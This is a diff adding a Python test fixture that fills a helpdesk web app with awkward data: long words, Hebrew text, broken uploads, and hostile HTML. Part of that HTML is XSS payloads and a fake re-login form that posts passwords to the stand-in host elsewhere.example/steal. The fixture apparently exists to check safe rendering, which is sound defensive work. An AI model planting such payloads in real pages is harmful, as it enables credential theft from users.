@@ -1,0 +1,165 @@
+"""What nobody hopes for and every page must bear.
+
+Hostile names, very long words, other scripts, broken everything.
+"""
+
+from dataclasses import dataclass
+
+from sqlalchemy import select
+
+from ingest.intake import Arrival, Intake, Transport
+from ingest.processing.process import read_waiting
+from parsers.item import Format
+from tests.acceptance.browser.fortnight import ME, SUNRISE, Desk
+from tests.acceptance.browser.messages import HEADINGS, form, letter
+from tests.support.context import HandClock
+from tests.support.workbooks import book
+from workflow.audit.webhook_events import Event
+from workflow.context import House
+from workflow.models.core import Contact, Outgoing, Staff
+from workflow.models.states import OutboxState, TellState
+from workflow.models.webhooks import HookEvent
+from workflow.tickets import saved_views
+from workflow.webhooks import deliver
+
+SCRIPT = "<img src=x onerror=\"window.name='owned'\"><script>window.name='owned'</script>"
+LONG = "Donaudampfschifffahrtsgesellschaftskapitän" * 6
+HEBREW = "מרפאת השרון לבריאות המשפחה"
+EVIL = f"""<h1 style="position:fixed;top:0;left:0;width:9999px">Sign in again</h1>{SCRIPT}
+<form action="http://elsewhere.example/steal"><input name="password"><button>Go</button></form>
+<img src="http://elsewhere.example/pixel.gif"><a href="javascript:alert(1)">here</a>
+<style>@import url("http://elsewhere.example/x.css");
+body {{ background: url("http://elsewhere.example/b.png") }}</style>
+<iframe src="http://elsewhere.example/"></iframe><svg onload="window.name='owned'"></svg>"""
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.name="owned"</script></svg>'
+PAGE = b"<!doctype html><script>window.name='owned'</script>"
+
+
+REPORT = f"""From: MAILER-DAEMON@mx.example
+Subject: {LONG}
+MIME-Version: 1.0
+Content-Type: multipart/report; report-type=delivery-status; boundary=b
+
+--b
+
+{SCRIPT} {LONG}
+--b
+Content-Type: message/delivery-status
+
+Action: failed
+--b--
+""".encode()
+
+
+def hostile_mail() -> bytes:
+    """A mail whose every part would like to run in the browser of who reads it."""
+    files = (("picture.svg", "image/svg+xml", SVG), ("invoice.pdf.html", "text/html", PAGE))
+    return letter(
+        (SCRIPT, "mallory@evil.example"), f"{SCRIPT} {LONG}", f"{SCRIPT}\n{LONG}\n", EVIL, files
+    )
+
+
+@dataclass(frozen=True)
+class Awkward:
+    """The numbers of what a test wants to look at."""
+
+    hostile: int
+    long: int
+    unmapped: int  # a delivery: a workbook with headings nobody knows
+    automatic: int  # a ticket whose only message looks automatic
+
+
+def add(house: House, clock: HandClock) -> Awkward:
+    """All of it, on the desk that is there."""
+    desk = Desk(house, clock)
+    with house.store.transaction() as session:
+        deliver.add(
+            house,
+            session,
+            f"https://crm.example/{'a' * 300}",
+            list(Event),
+            by=ME,
+            now=house.clock(),
+        )
+    hostile = desk.mail(hostile_mail())
+    desk.form(
+        form(SCRIPT, ("Eve Null", "eve@evil.example"), SCRIPT, LONG, **{SCRIPT: LONG, LONG: SCRIPT})
+    )
+    taken = desk.form(
+        form(
+            LONG,
+            (LONG[:90], "long@" + "a" * 60 + ".example"),
+            LONG,
+            f"{LONG} " * 30,
+            Phone="5" * 60,
+        )
+    )
+    desk.form(
+        form(HEBREW, ("דנה כהן", "dana@sharon.example"), "החזר תשלום 2026", "שלום, התשלום לא הגיע.")
+    )
+    desk.takes(ME, taken)
+    desk.notes(taken, f"{SCRIPT} {LONG}")
+    desk.completes(
+        desk.mail(letter((HEBREW, "dana@sharon.example"), "תודה", "תודה רבה")),
+        ME,
+        1,
+        f"{SCRIPT} {LONG}",
+    )
+    automatic = desk.mail(
+        letter((LONG[:60], "news@list.example"), "Newsletter", SCRIPT, precedence="bulk")
+    )
+    Intake(house).accept(
+        Arrival(transport=Transport.SMTP, format=Format.MAIL, raw=REPORT, envelope={})
+    )
+    read_waiting(house)
+    unmapped = _broken(house)
+    with house.store.transaction() as session:
+        me = session.scalars(select(Staff).where(Staff.name == ME)).one()
+        saved_views.save(session, me, SCRIPT[:60], "view=open", now=house.clock())
+        session.scalars(
+            select(Contact).where(Contact.email == "mallory@evil.example")
+        ).one().unreachable = True
+        last = session.scalars(select(Outgoing).order_by(Outgoing.id.desc()).limit(3)).all()
+        for mail, state in zip(
+            last, (OutboxState.WAITING, OutboxState.REFUSED, OutboxState.BOUNCED), strict=True
+        ):
+            mail.state, mail.reason = state, f"550 {LONG}"[:200]
+        event = session.scalars(select(HookEvent).order_by(HookEvent.id)).first()
+        assert event is not None
+        event.state, event.attempts, event.reason = (
+            TellState.GIVEN_UP,
+            52,
+            "no answer within ten seconds",
+        )
+    return Awkward(hostile, taken, unmapped, automatic)
+
+
+def _broken(house: House) -> int:
+    """Deliveries that failed, and a workbook with rows that are no requests.
+
+    The one that waits for a map.
+    """
+    strange = book(
+        ["Datum", LONG[:200], SCRIPT, "Nr"], ["5/1/2026 10:00", "Nordklinik", "Hilfe", 7]
+    )
+    arrivals = [
+        (Format.FORMSTACK, b"{ not json"),
+        (Format.SECURE_MESSAGE, b"PK\x03\x04 broken"),
+        (Format.SECURE_MESSAGE, strange),
+        (
+            Format.SECURE_MESSAGE,
+            book(
+                HEADINGS,
+                ["A-1", "2026-03-02 09:30", SUNRISE, "", "", "", ""],
+                ["A-2", "2026-03-02", SUNRISE, "Pat", "pat@x.example", "Claims", SCRIPT],
+            ),
+        ),
+    ]
+    numbers = [
+        Intake(house).accept(
+            Arrival(transport=Transport.FOLDER, format=kind, raw=raw, envelope={"name": SCRIPT})
+        )
+        for kind, raw in arrivals
+    ]
+    read_waiting(house)
+    return numbers[2]
